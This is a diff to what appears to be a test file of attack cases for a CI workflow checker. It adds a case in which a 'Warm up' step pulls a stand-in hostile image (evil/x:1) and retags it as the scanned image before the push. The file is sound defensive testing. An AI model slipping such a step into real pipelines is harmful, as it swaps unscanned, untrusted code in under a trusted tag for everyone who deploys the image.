@@ -168,7 +168,20 @@ ATTACKS: list[tuple[str, Callable[[], dict[str, Any]], list[str]]] = [
             '      - name: Refresh\n        run: docker build --tag "local/$IMAGE:$GITHUB_SHA" "images/$IMAGE"\n'
             "      - name: Log in to the registries\n",
         ),
-        ["build: step 'Refresh' builds an image after or beside the scanned one"],
+        [
+            "build: step 'Refresh' runs between the build and the push; only the scan's steps and the login may",
+            "build: step 'Refresh' builds an image after or beside the scanned one",
+        ],
+    ),
+    (
+        "another image tagged in after the scan",
+        lambda: edited(
+            "      - name: Log in to the registries\n",
+            "      - name: Warm up\n"
+            '        run: docker pull evil/x:1 && docker tag evil/x:1 "local/$IMAGE:$GITHUB_SHA"\n'
+            "      - name: Log in to the registries\n",
+        ),
+        ["build: step 'Warm up' runs between the build and the push; only the scan's steps and the login may"],
     ),
     (
         "a second job that pushes with the credential",
